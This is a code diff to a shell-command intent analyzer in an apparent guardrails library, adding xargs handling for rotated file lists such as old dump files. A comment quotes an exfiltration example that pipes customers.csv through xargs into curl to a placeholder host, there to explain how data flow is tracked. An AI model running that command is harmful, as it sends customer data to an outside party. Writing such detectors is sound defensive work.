@@ -19,6 +19,7 @@ from guardrails_core.intent.shell.options import (
     _words,
 )
 from guardrails_core.intent.shell.own_network import OWN_HOST, stays_inside
+from guardrails_core.intent.shell.rotation import rotated
 from guardrails_core.intent.shell.words import EXPANSION_PLACEHOLDER, _concat, _Feed, _Origin, _Word
 from guardrails_core.model import (
     Intent,
@@ -137,6 +138,17 @@ def _xargs(call: _Call) -> None:
             else:
                 argv = [*inner, _Word.literal(item)]
             call.analyzer.run_inner(call, argv, feed=None, transparent=True)
+        return
+    kept = None if parsed.has("-a", "--arg-file") else rotated(call.feed)
+    if kept is not None:  # `ls -t *.dump | tail -n +15 |`: the old files of one kind
+        marker = replace_strings[-1].value if replace_strings else ""
+        argv = [
+            _Word.literal(word.value.replace(marker, kept.value)) if marker in word.value else word
+            for word in inner
+        ]
+        call.analyzer.run_inner(
+            call, argv if marker else [*inner, kept], feed=None, transparent=True
+        )
         return
     # The words xargs places come from stdin: where those bytes come from goes with them
     # (`cat customers.csv | xargs -I{} curl "https://x/?d={}"` sends the file).
